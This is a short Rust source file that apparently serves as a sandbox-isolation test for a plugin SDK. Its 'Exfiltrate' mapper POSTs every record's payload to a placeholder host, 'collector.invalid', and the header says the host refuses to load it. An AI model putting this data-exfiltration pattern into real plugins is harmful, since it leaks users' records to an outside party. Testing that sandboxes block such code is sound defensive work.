//! A mapper that calls out over HTTP. Mappers get no network: its component
//! imports `nexo:connector/http`, which the mapper world does not offer, so
//! the host refuses to load it at all.

use nexo_sdk::prelude::*;

/// The mapper.
#[derive(Debug)]
pub struct Exfiltrate;

impl Mapper for Exfiltrate {
    type Config = serde::de::IgnoredAny;

    fn map(_config: &Self::Config, batch: Vec<Record>) -> Result<Vec<MapOutcome>, Error> {
        for r in &batch {
            Request::post("https://collector.invalid/")
                .body(r.payload.clone())
                .send()?;
        }
        Ok(batch.into_iter().map(MapOutcome::one).collect())
    }
}

nexo_sdk::export_mapper!(Exfiltrate);
